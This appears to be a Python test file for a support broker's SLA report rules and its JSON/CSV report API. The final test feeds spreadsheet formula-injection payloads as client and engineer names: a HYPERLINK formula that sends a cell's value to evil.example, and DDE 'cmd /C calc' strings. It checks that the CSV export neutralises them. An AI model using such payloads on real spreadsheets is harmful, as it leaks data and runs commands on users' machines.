"""Service reports (issue 19): the rules of broker/reports.py (SLA met, missed, open;
time to answer and to resolve; grouping by engineer, skill group and organisation),
and GET /api/v1/reports/sla over the real broker, in JSON and CSV."""

from __future__ import annotations

import csv
import io

from broker.reports import SessionRow, TicketRow, build_report
from broker.store import queries
from broker.store.db import DB
from broker.testing import FakeClock, RunningBroker
from tests.broker.conftest import put_contract, staff

MIN = 60_000


def s(
    created: int,
    deadline: int,
    answered: int | None,
    *,
    ended: bool = False,
    eng: str | None = None,
    org: str = "acme",
    skills: tuple[str, ...] = (),
) -> SessionRow:
    return SessionRow(created, deadline, answered, ended, eng, None, org, skills)


def test_met_missed_and_open_sessions() -> None:
    rows = [
        s(0, 5 * MIN, 2 * MIN, eng="ann"),  # met (2 min)
        s(0, 5 * MIN, 5 * MIN, eng="ann"),  # met exactly at the deadline
        s(0, 5 * MIN, 9 * MIN, eng="bob"),  # answered late: missed
        s(0, 5 * MIN, None, ended=True),  # never answered, ended: missed
        s(0, 50 * MIN, None),  # still waiting before its deadline: open, not counted
        s(0, 6 * MIN, None),  # still waiting after it: missed
    ]
    _, total = build_report(rows, [], by="organisation", now_ms=10 * MIN)
    d = total.as_dict()
    assert (d["sessions"], d["answered"], d["sla_met"], d["sla_missed"]) == (6, 3, 2, 3)
    assert d["sla_met_pct"] == 40.0
    assert d["answer_avg_s"] == round((120 + 300 + 540) / 3, 1)
    assert d["answer_median_s"] == 300.0


def test_grouping_by_engineer_group_and_organisation() -> None:
    rows = [
        s(0, 5 * MIN, 1 * MIN, eng="ann", org="acme", skills=("network",)),
        s(0, 5 * MIN, 8 * MIN, eng="bob", org="globex", skills=("network", "printers")),
        s(0, 5 * MIN, None, ended=True, org="acme"),
    ]
    tickets = [
        TicketRow(0, 60 * MIN, "ann", "acme", ("network",)),
        TicketRow(0, None, "bob", "globex", ("printers",)),  # not resolved: not counted
    ]
    by_eng, _ = build_report(rows, tickets, by="engineer", now_ms=0, labels={"ann": "Ann"})
    got = {r.key: r.as_dict() for r in by_eng}
    assert got["ann"]["label"] == "Ann" and got["ann"]["sla_met_pct"] == 100.0
    assert got["ann"]["resolved"] == 1 and got["ann"]["resolve_avg_s"] == 3600.0
    assert got["bob"]["sla_met_pct"] == 0.0 and got["bob"]["resolved"] == 0
    assert got[""]["label"] == "unassigned" and got[""]["sla_missed"] == 1
    by_group, total = build_report(rows, tickets, by="group", now_ms=0)
    groups = {r.key: r.as_dict() for r in by_group}
    assert groups["network"]["sessions"] == 2 and groups["printers"]["sessions"] == 1
    assert groups[""]["label"] == "general" and groups[""]["sessions"] == 1
    assert total.sessions == 3  # a session in two groups counts once in the total
    by_org, _ = build_report(rows, tickets, by="organisation", now_ms=0)
    assert [(r.key, r.sessions) for r in by_org] == [("acme", 2), ("globex", 1)]


def test_the_resolution_clock_met_missed_and_open() -> None:
    tickets = [
        TicketRow(0, 10 * MIN, None, "acme", (), "t1", "std", False),  # resolved in time
        TicketRow(0, 90 * MIN, None, "acme", (), "t2", "std", True),  # resolved late
        TicketRow(0, None, None, "acme", (), "t3", "std", True),  # open, past its target
        TicketRow(0, None, None, "acme", (), "t4", "std", False),  # open, within it
        TicketRow(0, 5 * MIN, None, "acme", (), "t5", "std", None),  # not measured
    ]
    _, total = build_report([], tickets, by="organisation", now_ms=0)
    d = total.as_dict()
    assert (d["resolution_met"], d["resolution_missed"]) == (1, 2)
    assert d["resolution_met_pct"] == round(100 / 3, 1) and d["resolved"] == 3


async def _request(broker: RunningBroker, org: str = "") -> str:
    body = {"description": "help", "client_name": "C", **({"organisation": org} if org else {})}
    status, data, _ = await broker.request("POST", "/api/v1/agent/requests", json=body)
    assert status == 201, data
    return str(data["session_id"])


async def test_the_report_api_in_json_and_csv(broker: RunningBroker, clock: FakeClock) -> None:
    await broker.create_user("ann", "engineer", name="Ann Engineer")
    ann = await queries.get_user_by_username(broker.app[DB], "ann")
    assert ann is not None
    await queries.put_organisation(broker.app[DB], "acme", "premium", at=0)  # 5 min
    admin = await broker.login(broker.admin_username, broker.admin_password)
    await put_contract(broker, admin, "premium", response_s=300, resolution_s=3600)
    fast = await _request(broker, "acme")
    slow = await _request(broker, "acme")
    clock.advance(120)  # seconds
    await queries.mark_answered(broker.app[DB], fast, ann.id, clock.now_ms())
    clock.advance(480)
    await queries.mark_answered(broker.app[DB], slow, ann.id, clock.now_ms())
    row = await queries.get_session(broker.app[DB], fast)
    assert row is not None
    await queries.update_ticket(broker.app[DB], row.ticket_id, at=clock.now_ms(), status="resolved")
    sup = await staff(broker, "sue", "supervisor")  # logged in now: the clock moved
    eng = await staff(broker, "eve", "engineer")

    status, body, _ = await broker.request("GET", "/api/v1/reports/sla?by=engineer", token=sup)
    assert status == 200, body
    [mine] = [r for r in body["rows"] if r["key"] == ann.id]
    assert mine["label"] == ann.name and mine["sla_met"] == 1 and mine["sla_missed"] == 1
    assert mine["sla_met_pct"] == 50.0 and mine["answer_avg_s"] == (120 + 600) / 2
    assert body["total"]["resolved"] == 1 and body["total"]["resolve_avg_s"] == 600.0
    # the resolution clock (the contract: 1 h): one resolved in time, one still open
    assert (body["total"]["resolution_met"], body["total"]["resolution_missed"]) == (1, 0)
    clock.advance(51 * 60)  # the unresolved one runs past its hour
    _, later, _ = await broker.request("GET", "/api/v1/reports/sla", token=sup)
    assert later["total"]["resolution_met_pct"] == 50.0

    for path, headers in (
        ("/api/v1/reports/sla?format=csv", None),
        ("/api/v1/reports/sla", {"Accept": "text/csv"}),
    ):
        status, text, hdrs = await broker.request("GET", path, token=sup, headers=headers)
        assert status == 200 and hdrs["Content-Type"].startswith("text/csv"), text
        assert "attachment" in hdrs["Content-Disposition"]
        lines = list(csv.reader(io.StringIO(text)))
        assert lines[0][:3] == ["key", "label", "sessions"]
        assert lines[1][:3] == ["acme", "acme", "2"] and lines[-1][1] == "total"
        assert lines[1][lines[0].index("sla_met_pct")] == "50.0"

    # the range: a day with nothing in it, bad input, who may read
    today = "2027-01-10"  # the requests were made on 2027-01-15
    status, body, _ = await broker.request(
        "GET", f"/api/v1/reports/sla?from={today}&to={today}", token=sup
    )
    assert status == 200 and body["total"]["sessions"] == 0 and body["rows"] == []
    for bad in (
        "from=yesterday",
        "from=2026-12-05&to=2026-12-01",
        "by=planet",
        "from=2020-01-01&to=2026-01-01",
        "from=2026-12-01T10:00:00",
    ):
        status, err, _ = await broker.request("GET", f"/api/v1/reports/sla?{bad}", token=sup)
        assert status == 400 and err["error"]["code"] == "invalid_field", (bad, err)
    status, _, _ = await broker.request("GET", "/api/v1/reports/sla", token=eng)
    assert status == 403


async def test_csv_neutralises_formulas_in_client_and_staff_names(
    broker: RunningBroker, clock: FakeClock
) -> None:
    """Review of 2026-12-04: an unauthenticated client names its organisation, the OIDC
    provider names the engineer; a cell starting with = + - @ (or a tab) ran as a
    formula in the supervisor's spreadsheet. Such cells start with an apostrophe now."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    await _request(broker, hostile)
    await _request(broker, "+cmd|' /C calc'!A0")
    await _request(broker, "\t=1+1")
    await broker.create_user("mal", "engineer", name="@SUM(1+1)*cmd|' /C calc'!A0")
    mal = await queries.get_user_by_username(broker.app[DB], "mal")
    assert mal is not None
    sid = await _request(broker, "-2+3")
    clock.advance(60)
    await queries.mark_answered(broker.app[DB], sid, mal.id, clock.now_ms())
    sup = await staff(broker, "sue", "supervisor")
    cells: list[str] = []
    for by in ("organisation", "engineer"):
        status, text, _ = await broker.request(
            "GET", f"/api/v1/reports/sla?format=csv&by={by}", token=sup
        )
        assert status == 200, text
        for line in list(csv.reader(io.StringIO(text)))[1:]:
            cells.extend(line[:2])
    assert "'" + hostile in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'=1+1" in cells and "'-2+3" in cells  # the tab was trimmed by the broker
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # JSON is data, not a spreadsheet: the names are kept exactly.
    _, body, _ = await broker.request("GET", "/api/v1/reports/sla", token=sup)
    assert hostile in [r["label"] for r in body["rows"]]
